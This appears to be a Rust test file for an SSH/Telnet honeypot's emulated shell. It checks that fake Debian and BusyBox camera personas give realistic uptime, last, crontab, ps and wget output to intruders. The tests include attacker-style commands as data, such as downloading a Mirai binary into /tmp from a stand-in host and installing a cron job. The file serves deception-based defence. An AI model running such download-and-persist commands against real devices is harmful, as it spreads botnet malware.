//! The tells a careful visitor finds (issue #24, item 5): which commands exist,
//! BusyBox's own output formats on the camera, one clock and one machine state
//! per persona, downloads that show the URL they were given.

use super::tests::{limits, origin};
use super::*;

fn debian() -> Shell {
    let world = World::new(Persona::debian("web-1", vec!["pi".into()]));
    Shell::new(world, "root", limits(1000), origin("10.0.0.5"), false)
}

fn camera() -> Shell {
    let world = World::new(Persona::busybox_device(
        "cam-1",
        vec!["admin".into()],
        persona::Arch::Arm,
    ));
    Shell::new(world, "root", limits(1000), origin("192.168.1.108"), false)
}

/// stdout, stderr and status of `line`.
fn run3(sh: &mut Shell, line: &str) -> (String, String, i32) {
    let out = sh.exec(line);
    (
        String::from_utf8_lossy(&out.data).into_owned(),
        String::from_utf8_lossy(&out.err).into_owned(),
        sh.status,
    )
}

/// stdout then stderr of `line`.
fn run(sh: &mut Shell, line: &str) -> String {
    let (out, err, _) = run3(sh, line);
    out + &err
}

#[test]
fn debian_has_no_yum_dnf_or_python() {
    let mut sh = debian();
    for (line, name) in [
        ("yum install x", "yum"),
        ("dnf install -y x", "dnf"),
        ("python -c 'print(1)'", "python"),
    ] {
        let (out, err, status) = run3(&mut sh, line);
        assert_eq!(out, "", "{line}");
        assert_eq!(err, format!("-bash: {name}: command not found\n"), "{line}");
        assert_eq!(status, 127, "{line}");
    }
    assert_eq!(run3(&mut sh, "python3 -c 'print(1)'").2, 0);
    assert_eq!(run(&mut sh, "which python3"), "/usr/bin/python3\n");
    assert_eq!(run3(&mut sh, "which python yum").2, 1);
    assert_eq!(run(&mut sh, "command -v python"), "");
    assert_eq!(
        run(&mut sh, "type python3"),
        "python3 is /usr/bin/python3\n"
    );
    assert_eq!(run(&mut sh, "type cd"), "cd is a shell builtin\n");
    assert_eq!(run(&mut sh, "type for"), "for is a shell keyword\n");
    // What is listed is found, and the other way round.
    assert_eq!(
        run(&mut sh, "which egrep mawk"),
        "/usr/bin/egrep\n/usr/bin/mawk\n"
    );
    assert!(sh.fs.get("/usr/bin/python").is_none());
    // apt still answers as apt.
    assert!(run(&mut sh, "apt-get install x").starts_with("Reading package lists"));
}

#[test]
fn the_camera_answers_type_from_ash_s_builtins() {
    let mut sh = camera();
    assert_eq!(run(&mut sh, "type cd"), "cd is a shell builtin\n");
    assert_eq!(
        run(&mut sh, "type declare"),
        "-sh: type: declare: not found\n"
    );
    assert_eq!(run(&mut sh, "yum"), "-sh: yum: not found\n");
    assert_eq!(sh.status, 127);
}

/// A shell of `persona` whose clock reads `now`.
fn at(persona: Persona, now: u64, pty: bool) -> Shell {
    let mut origin = origin("10.0.0.5");
    origin.now = now;
    Shell::new(World::new(persona), "root", limits(1000), origin, pty)
}

/// 2026-12-07 10:02:11 UTC, a Monday.
const DEC_2026: u64 = 1_796_637_731;

#[test]
fn uptime_advances_from_one_boot_time_per_persona() {
    let debian = || Persona::debian("web-1", vec![]);
    let first = run(&mut at(debian(), DEC_2026, false), "uptime");
    let later = run(&mut at(debian(), DEC_2026 + 3_600, false), "uptime");
    assert_ne!(first, later, "uptime is frozen");
    assert!(first.starts_with(" 10:02:11 up "), "{first}");
    assert!(later.starts_with(" 11:02:11 up "), "{later}");
    // An hour later the machine has been up an hour longer: the same boot.
    assert_eq!(
        debian().boot_time(DEC_2026),
        debian().boot_time(DEC_2026 + 3_600)
    );
    // SSH and Telnet sessions of one machine see one boot (the boot depends on
    // the machine and the clock, not on the session).
    let boot = debian().boot_time(DEC_2026);
    assert!(DEC_2026 - boot >= 2 * 86_400 && DEC_2026 - boot < 43 * 86_400);
    let text = |now| run(&mut at(debian(), now, true), "uptime").replace("\r\n", "\n");
    assert_eq!(text(DEC_2026), first);
    // procps's format.
    let days = (DEC_2026 - boot) / 86_400;
    assert!(
        first.contains(&format!(" up {days} days, "))
            && first.ends_with(",  1 user,  load average: 0.08, 0.03, 0.01\n"),
        "{first}"
    );
    assert!(run(&mut at(debian(), DEC_2026, false), "w").starts_with(&first));
    let since = run(&mut at(debian(), DEC_2026, false), "uptime -s");
    assert_eq!(
        since,
        format!("{}\n", commands::strftime("%Y-%m-%d %H:%M:%S", boot))
    );
    let pretty = run(&mut at(debian(), DEC_2026, false), "uptime -p");
    let weeks = (DEC_2026 - boot) / 604_800;
    assert!(pretty.starts_with(&format!("up {weeks} week")), "{pretty}");
    // The SSH honeypot's persona, the Telnet one's (other logins, or the
    // camera profile) behind the same host name: one boot.
    let telnet_debian = Persona::debian("web-1", vec!["admin".into()]);
    let telnet_camera = Persona::busybox_device("web-1", vec![], persona::Arch::Mipsel);
    assert_eq!(telnet_debian.boot_time(DEC_2026), boot);
    assert_eq!(telnet_camera.boot_time(DEC_2026), boot);
    assert_ne!(Persona::debian("db-2", vec![]).boot_time(DEC_2026), boot);
    // /proc/uptime says the same.
    let proc = run(&mut at(debian(), DEC_2026, false), "cat /proc/uptime");
    assert!(proc.starts_with(&format!("{}.", DEC_2026 - boot)), "{proc}");
}

#[test]
fn the_camera_answers_uptime_date_crontab_w_and_hostname_as_busybox() {
    let cam = || Persona::busybox_device("cam-1", vec![], persona::Arch::Arm);
    let mut sh = at(cam(), DEC_2026, false);
    let boot = cam().boot_time(DEC_2026);
    let up = DEC_2026 - boot;
    let expected = format!(
        " 10:02:11 up {} days, {:2}:{:02},  load average: 0.41, 0.37, 0.35\n",
        up / 86_400,
        up / 3_600 % 24,
        up / 60 % 60
    );
    assert_eq!(run(&mut sh, "uptime"), expected);
    assert_eq!(run(&mut sh, "date"), "Mon Dec  7 10:02:11 UTC 2026\n");
    assert_eq!(run(&mut sh, "date +%s"), format!("{DEC_2026}\n"));
    assert_eq!(run(&mut sh, "date '+%Y-%m-%d %H:%M'"), "2026-12-07 10:02\n");
    let (out, err, status) = run3(&mut sh, "crontab -l");
    assert_eq!(
        (out.as_str(), err.as_str(), status),
        (
            "",
            "crontab: can't open 'root': No such file or directory\n",
            1
        )
    );
    assert_eq!(run(&mut sh, "w"), "USER\t\tTTY\t\tIDLE\tTIME\t\t HOST\n");
    assert_eq!(run(&mut sh, "who"), "");
    let (_, err, status) = run3(&mut sh, "hostname -I");
    assert!(
        err.starts_with("hostname: invalid option -- 'I'\nBusyBox v1.24.1"),
        "{err}"
    );
    assert!(err.contains("Usage: hostname [OPTIONS]"), "{err}");
    assert_eq!(status, 1);
    assert_eq!(run(&mut sh, "hostname"), "cam-1\n");
}

#[test]
fn last_and_the_motd_tell_one_history_on_the_current_clock() {
    let mut sh = at(Persona::debian("web-1", vec![]), DEC_2026, true);
    let greeting = String::from_utf8_lossy(&sh.greeting().data).into_owned();
    let last = run(&mut sh, "last");
    assert!(!last.contains("2024"), "{last}");
    let previous = Persona::debian("web-1", vec![]).previous_login(DEC_2026);
    assert!(previous < DEC_2026 - 3_600);
    let motd_when = commands::ctime(previous);
    assert!(
        greeting.contains(&format!("Last login: {motd_when} from 10.0.0.12")),
        "{greeting}"
    );
    // `last` lists this session, then that login at the same minute, then the
    // boot, and wtmp begins at the boot.
    let lines: Vec<&str> = last.lines().collect();
    assert!(
        lines[0].starts_with(
            "root     pts/0        203.0.113.9      Mon Dec  7 10:02   still logged in"
        ),
        "{last}"
    );
    assert!(lines[1].contains(&motd_when[..16]), "{last}\n{motd_when}");
    assert!(lines[1].contains("10.0.0.12"), "{last}");
    assert!(
        lines[2].starts_with("reboot   system boot  6.1.0-28-amd64"),
        "{last}"
    );
    let boot = Persona::debian("web-1", vec![]).boot_time(DEC_2026);
    assert!(
        last.ends_with(&format!("wtmp begins {}\r\n", commands::ctime(boot))),
        "{last}"
    );
}

#[test]
fn a_crontab_sticks_for_the_session() {
    let mut sh = debian();
    assert_eq!(run3(&mut sh, "crontab -l").1, "no crontab for root\n");
    assert_eq!(run3(&mut sh, "echo '* * * * * x' | crontab -").2, 0);
    assert_eq!(run(&mut sh, "crontab -l"), "* * * * * x\n");
    assert_eq!(
        run(&mut sh, "cat /var/spool/cron/crontabs/root"),
        "* * * * * x\n"
    );
    assert_eq!(run3(&mut sh, "crontab -r").2, 0);
    assert_eq!(run3(&mut sh, "crontab -l").2, 1);
    let mut cam = camera();
    run(&mut cam, "echo '*/5 * * * * /tmp/x' | crontab -");
    assert_eq!(run(&mut cam, "crontab -l"), "*/5 * * * * /tmp/x\n");
}

#[test]
fn ps_lists_the_grep_of_its_pipeline() {
    let mut sh = debian();
    let out = run(&mut sh, "ps aux | grep x");
    assert!(
        out.lines()
            .any(|l| l.contains(" 2904 ") && l.ends_with("grep x")),
        "{out}"
    );
    let out = run(&mut sh, "ps -ef | grep sshd");
    assert!(out.lines().any(|l| l.ends_with(" grep sshd")), "{out}");
    // Alone, ps lists only itself and the shell.
    assert!(!run(&mut sh, "ps aux").contains("grep"));
    // START of system processes is the boot's day, the session's its time.
    let mut sh = at(Persona::debian("web-1", vec![]), DEC_2026, false);
    let boot = Persona::debian("web-1", vec![]).boot_time(DEC_2026);
    let out = run(&mut sh, "ps aux");
    assert!(out.contains(&commands::ps_start(boot, DEC_2026)), "{out}");
    assert!(out.contains("R+   10:02"), "{out}");
    let mut cam = camera();
    let out = run(&mut cam, "ps | grep telnetd");
    assert!(out.lines().any(|l| l.ends_with("grep telnetd")), "{out}");
}

#[test]
fn wget_shows_the_url_s_port() {
    let mut sh = debian();
    let out = run(&mut sh, "wget http://198.51.100.7:8080/x.sh");
    assert!(
        out.contains("Connecting to 198.51.100.7 (198.51.100.7)|198.51.100.7|:8080... connected."),
        "{out}"
    );
    let out = run(&mut sh, "wget https://198.51.100.7/y");
    assert!(out.contains("|:443... connected."), "{out}");
    let out = run(&mut sh, "wget http://198.51.100.7/z");
    assert!(out.contains("|:80... connected."), "{out}");
}

#[test]
fn the_camera_s_wget_prints_busybox_s_lines() {
    let mut cam = camera();
    for line in [
        "wget http://198.51.100.7:8080/bins/mirai.arm7",
        "busybox wget http://198.51.100.7:8080/bins/mirai.arm7",
    ] {
        let (out, err, status) = run3(&mut cam, &format!("cd /tmp; {line}"));
        assert_eq!((out.as_str(), status), ("", 0), "{line}");
        let lines: Vec<&str> = err.lines().collect();
        assert_eq!(
            lines[0], "Connecting to 198.51.100.7:8080 (198.51.100.7:8080)",
            "{err}"
        );
        assert!(
            lines[1].starts_with("mirai.arm7           100% |*******************************| "),
            "{err}"
        );
        assert!(lines[1].ends_with("  0:00:00 ETA"), "{err}");
        assert_eq!(lines.len(), 2, "{err}");
        assert!(!err.contains("HTTP request sent"), "{err}");
    }
    let (_, err, _) = run3(&mut cam, "busybox wget http://example.com/a");
    assert!(
        err.starts_with("Connecting to example.com (203.0.113."),
        "{err}"
    );
    assert!(
        err.lines().next().is_some_and(|l| l.ends_with(":80)")),
        "{err}"
    );
}

#[test]
fn the_clock_never_panics_near_the_epoch_or_the_end_of_time() {
    for now in [0, 1, 86_400, 3 * 86_400, u64::MAX / 2, u64::MAX] {
        let persona = Persona::debian("web-1", vec![]);
        let boot = persona.boot_time(now);
        assert!(boot <= now);
        assert!(persona.previous_login(now) <= now);
        let mut sh = at(persona, now, false);
        for line in [
            "uptime",
            "w",
            "last",
            "ps aux | grep x",
            "date +%s",
            "cat /proc/uptime",
        ] {
            let _ = run(&mut sh, line);
        }
        let mut cam = at(
            Persona::busybox_device("cam-1", vec![], persona::Arch::Mipsel),
            now,
            false,
        );
        let _ = run(&mut cam, "uptime; w; date");
    }
}
